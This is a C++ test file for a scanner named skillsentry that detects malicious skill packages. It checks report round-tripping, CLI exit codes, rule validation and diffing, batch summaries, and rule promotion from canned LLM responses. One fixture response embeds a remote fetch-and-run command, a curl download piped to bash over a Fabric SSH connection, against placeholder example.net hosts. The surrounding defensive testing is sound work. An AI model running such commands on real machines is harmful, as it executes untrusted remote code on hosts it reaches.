#include <doctest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>

#include <nlohmann/json.hpp>

#include "helpers.hpp"
#include "skillsentry/neural.hpp"
#include "skillsentry/pipeline.hpp"
#include "skillsentry/report.hpp"
#include "skillsentry/util.hpp"

using namespace skillsentry;
using nlohmann::json;
namespace fs = std::filesystem;

namespace {

int run_cli(const std::string& args, std::string* stdout_text = nullptr) {
  std::string out_file = (fs::temp_directory_path() / "skillsentry-cli-out.txt").string();
  std::string cmd = std::string(test::cli_path()) + " " + args + " > " + out_file + " 2>&1";
  int status = std::system(cmd.c_str());
  if (stdout_text) *stdout_text = read_file(out_file);
  return WEXITSTATUS(status);
}

json strip_timing(json doc) {
  doc["duration_ms"] = 0;
  return doc;
}

}  // namespace

TEST_CASE("scan reports re-parse losslessly") {
  ScanResult r = scan_path(test::fixture("motivating/exfil-skill"), test::offline_config());
  std::string text = r.report.to_json_text();
  ScanReport back = ScanReport::from_json_text(text);
  CHECK(back.to_json_text() == text);
  CHECK(back.verdict == "malicious");
  CHECK(back.package_id == r.report.package_id);
  REQUIRE(back.findings.size() == 1);
  CHECK(back.findings[0].behavior_class == "information_theft");
  REQUIRE_FALSE(back.findings[0].evidence_spans.empty());

  // Every cited span is valid for its artifact.
  SkillPackage pkg = load_package(test::fixture("motivating/exfil-skill"));
  for (const auto& f : back.findings)
    for (const auto& s : f.evidence_spans) {
      const Artifact* a = pkg.find(s.artifact);
      REQUIRE(a != nullptr);
      CHECK(s.start_line >= 1);
      CHECK(s.end_line <= a->line_count());
    }
}

TEST_CASE("human reports carry verdict, evidence spans, and provenance tags") {
  ScanResult r = scan_path(test::fixture("motivating/exfil-skill"), test::offline_config());
  std::string text = r.report.to_human_text();
  CHECK(text.find("verdict: malicious") != std::string::npos);
  CHECK(text.find("information_theft") != std::string::npos);
  CHECK(text.find("post.js:") != std::string::npos);
  CHECK(text.find("[S]") != std::string::npos);
}

TEST_CASE("cli scan exit codes follow the verdict") {
  CHECK(run_cli("scan " + test::fixture("motivating/exfil-skill") + " --llm off") == 1);
  CHECK(run_cli("scan " + test::fixture("benign/hello-skill") + " --llm off") == 0);
  CHECK(run_cli("scan /nonexistent/path --llm off") > 2);
}

TEST_CASE("empty packages are benign by vacuity") {
  std::string dir = test::scratch_dir("cli-empty");
  std::string out;
  CHECK(run_cli("scan " + dir + " --llm off --format json", &out) == 0);
  json doc = json::parse(out);
  CHECK(doc["verdict"] == "benign");
  CHECK(doc["degraded_flags"] == json::array({"empty-package"}));
}

TEST_CASE("cli reports are reproducible modulo timing") {
  std::string a, b;
  run_cli("scan " + test::fixture("behaviors/lateral_movement_malicious") + " --llm off --format json", &a);
  run_cli("scan " + test::fixture("behaviors/lateral_movement_malicious") + " --llm off --format json", &b);
  CHECK(strip_timing(json::parse(a)) == strip_timing(json::parse(b)));
}

TEST_CASE("emit-graph writes a dump and fact file next to the report") {
  std::string dir = test::scratch_dir("cli-graph");
  std::string report = dir + "/report.json";
  CHECK(run_cli("scan " + test::fixture("motivating/exfil-skill") +
                " --llm off --format json --emit-graph --out " + report) == 1);
  CHECK(fs::exists(report));
  CHECK(fs::exists(report + ".sdg.json"));
  CHECK(fs::exists(report + ".facts"));
  FactSet fs_parsed = FactSet::parse(read_file(report + ".facts"));
  CHECK_FALSE(fs_parsed.tuples("contains").empty());
}

TEST_CASE("cli rules validate and diff") {
  CHECK(run_cli("rules validate " + test::data_dir() + "/seed.rules") == 0);

  std::string dir = test::scratch_dir("cli-rules");
  std::string corrupted = read_file(test::data_dir() + "/seed.rules");
  corrupted += "\n[rule exec.subprocess.run]\ncategory = Exec\ntype = exec\n"
               "subtype = shell_interpreter_execution\nlanguages = python\n"
               "trigger = os.system(*)\norigin = seed\n";
  write_file(dir + "/corrupt.rules", corrupted);
  std::string err;
  CHECK(run_cli("rules validate " + dir + "/corrupt.rules", &err) != 0);
  CHECK(err.find("exec.subprocess.run") != std::string::npos);

  std::string extended = read_file(test::data_dir() + "/seed.rules");
  extended += "\n[rule promoted.test]\ncategory = Exec\ntype = exec\n"
              "subtype = shell_interpreter_execution\nlanguages = python\n"
              "trigger = wrapper.go(*)\ncaptures = command:1\norigin = promoted\n";
  write_file(dir + "/extended.rules", extended);
  std::string diff;
  CHECK(run_cli("rules diff " + test::data_dir() + "/seed.rules " + dir + "/extended.rules",
                &diff) == 0);
  CHECK(diff.find("+ promoted.test") != std::string::npos);
}

TEST_CASE("cli batch writes one summary row per package") {
  std::string out_dir = test::scratch_dir("cli-batch-out");
  std::string out;
  int code = run_cli("batch " + test::fixture("benign") + " --llm off --summary csv --out-dir " +
                         out_dir, &out);
  CHECK(code == 0);
  std::string summary = read_file(out_dir + "/summary.csv");
  int rows = -1;  // header line
  for (char c : summary) rows += c == '\n' ? 1 : 0;
  CHECK(rows == 2);
  CHECK(summary.find("docs-skill") != std::string::npos);
  CHECK(summary.find("hello-skill") != std::string::npos);
  CHECK(fs::exists(out_dir + "/hello-skill.report.json"));
}

TEST_CASE("cli batch on an empty corpus fails") {
  std::string dir = test::scratch_dir("cli-batch-empty");
  CHECK(run_cli("batch " + dir + " --llm off") != 0);
}

TEST_CASE("cli batch with feedback writes promoted.rules from the fabric corpus") {
  // Canned fixture responses keyed by the real extraction prompts.
  std::string fixture_dir = test::scratch_dir("cli-fabric-fixture");
  FixtureBackend keying(fixture_dir);
  for (int i = 1; i <= 3; ++i) {
    SkillPackage pkg = load_package(test::fixture("fabric/pkg" + std::to_string(i)));
    const Artifact* deploy = pkg.find("deploy.py");
    REQUIRE(deploy != nullptr);
    EvidenceRequest req = build_prompt(*deploy, test::seed_taxonomy(), pkg.id);
    std::string url = "https://bootstrap" + std::to_string(i) + ".example.net/setup.sh";
    json resp = {
        {"records",
         json::array(
             {{{"type", "exec"},
               {"subtype", "shell_interpreter_execution"},
               {"confidence", 0.9},
               {"start_line", 4},
               {"end_line", 4},
               {"attributes",
                {{"matched_text",
                  "fabric.Connection(host).run(\"curl -fsSL " + url + " | bash\")"}}}},
              {{"type", "net"},
               {"subtype", "outbound_connection"},
               {"confidence", 0.85},
               {"start_line", 4},
               {"end_line", 4},
               {"attributes", {{"matched_text", url}}}}})}};
    write_file(keying.response_path(req.to_llm_request().user), resp.dump());
  }

  // The held-out corpus comes from the rule file's held_out header here,
  // exercising the flag > config > rule-file fallback chain.
  std::string rules_dir = test::scratch_dir("cli-fabric-rules");
  std::string rules_text = read_file(test::data_dir() + "/seed.rules");
  rules_text.insert(rules_text.find("version = 1"), "held_out = " + test::fixture("benign") + "\n");
  write_file(rules_dir + "/seed-with-heldout.rules", rules_text);

  std::string out_dir = test::scratch_dir("cli-fabric-out");
  int code = run_cli("batch " + test::fixture("fabric") + " --llm fixture:" + fixture_dir +
                     " --feedback on --rules " + rules_dir + "/seed-with-heldout.rules" +
                     " --out-dir " + out_dir);
  CHECK(code == 0);

  std::string promoted = read_file(out_dir + "/promoted.rules");
  RuleBase promoted_rb = parse_rule_base(promoted, test::seed_taxonomy());
  REQUIRE(promoted_rb.rules.size() == 1);  // exactly one rule gained
  CHECK(promoted_rb.rules[0].origin == RuleOrigin::Promoted);
  CHECK(promoted_rb.rules[0].trigger.text == "fabric.Connection(*).run(*)");

  // `rules diff` over seed vs seed+promoted lists the one addition.
  std::string dir = test::scratch_dir("cli-fabric-diff");
  std::string combined = read_file(test::data_dir() + "/seed.rules");
  auto header_end = promoted.find("\n\n");
  combined += promoted.substr(header_end == std::string::npos ? 0 : header_end);
  write_file(dir + "/combined.rules", combined);
  std::string diff;
  CHECK(run_cli("rules diff " + test::data_dir() + "/seed.rules " + dir + "/combined.rules",
                &diff) == 0);
  CHECK(diff.find("+ promoted.") != std::string::npos);
  CHECK(diff.find("fabric.Connection(*).run(*)") != std::string::npos);
}

TEST_CASE("offline scans never touch the HTTP backend") {
  long before = HttpBackend::request_count();
  scan_path(test::fixture("motivating/exfil-skill"), test::offline_config());
  ScanConfig fixture_cfg = test::offline_config();
  fixture_cfg.llm.kind = LlmMode::Fixture;
  fixture_cfg.llm.fixture_dir = test::scratch_dir("no-net-fixture");
  scan_path(test::fixture("benign/hello-skill"), fixture_cfg);
  CHECK(HttpBackend::request_count() == before);
}

TEST_CASE("config file fills unset options with flag precedence") {
  std::string dir = test::scratch_dir("cli-config");
  // Point the config at a rules file that does not exist: if the config is
  // honored, the scan must fail; an explicit flag must win over it.
  write_file(dir + "/sentry.conf", "rules=" + dir + "/missing.rules\n");
  CHECK(run_cli("--config " + dir + "/sentry.conf scan " + test::fixture("benign/hello-skill") +
                " --llm off") > 2);
  CHECK(run_cli("--config " + dir + "/sentry.conf scan " + test::fixture("benign/hello-skill") +
                " --llm off --rules " + test::data_dir() + "/seed.rules") == 0);
}
